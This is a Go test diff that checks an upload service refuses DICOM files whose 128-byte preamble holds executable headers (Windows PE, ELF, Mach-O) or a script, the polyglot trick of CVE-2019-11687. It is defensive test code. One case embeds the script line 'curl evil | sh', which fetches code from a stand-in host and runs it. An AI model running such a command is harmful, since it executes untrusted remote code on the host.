@@ -163,6 +163,42 @@ func TestUpload_ContentTypeIsCheckedByTheBytes(t *testing.T) {
 	}
 }
 
+// A DICOM file's 128-byte preamble is free for applications, so a file can be both a
+// valid DICOM image and a program (CVE-2019-11687): such a file is refused, and a
+// preamble of zeros or of text (as some scanners write) is not.
+func TestUpload_DICOMWithAnExecutablePreambleIsRefused(t *testing.T) {
+	f := newFixture(t)
+	alice := f.newPatient()
+	polyglot := func(preamble string) []byte {
+		return body(preamble+string(make([]byte, 128-len(preamble)))+"DICM", 5000)
+	}
+	cases := []struct{ name, preamble string }{
+		{"Windows PE", "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"},
+		{"ELF", "\x7fELF\x02\x01\x01"},
+		{"Mach-O 32-bit", "\xfe\xed\xfa\xce"},
+		{"Mach-O 64-bit", "\xfe\xed\xfa\xcf"},
+		{"Mach-O 32-bit little-endian", "\xce\xfa\xed\xfe"},
+		{"Mach-O 64-bit little-endian", "\xcf\xfa\xed\xfe"},
+		{"Mach-O universal", "\xca\xfe\xba\xbe"},
+		{"script", "#!/bin/sh\ncurl evil | sh\n"},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			_, err := f.upload(alice, meta(c.name, "application/dicom"), polyglot(c.preamble))
+			testkit.WantReason(t, err, ReasonExecutableContent)
+			if v := violationFields(t, err); v != "chunk" {
+				t.Errorf("violations name %q, want chunk", v)
+			}
+			f.wantStored(0, 0)
+		})
+	}
+	for _, ok := range []string{"", "SCANNER XYZ 1.0 ", "MRI"} {
+		if _, err := f.upload(alice, meta("preamble "+ok, "application/dicom"), polyglot(ok)); err != nil {
+			t.Errorf("preamble %q: %v", ok, err)
+		}
+	}
+}
+
 func TestUpload_DeclaredTypeIsNormalised(t *testing.T) {
 	f := newFixture(t)
 	up := f.mustUpload(f.newPatient(), meta("scan", "Application/PDF; charset=binary"), pdf(1000))
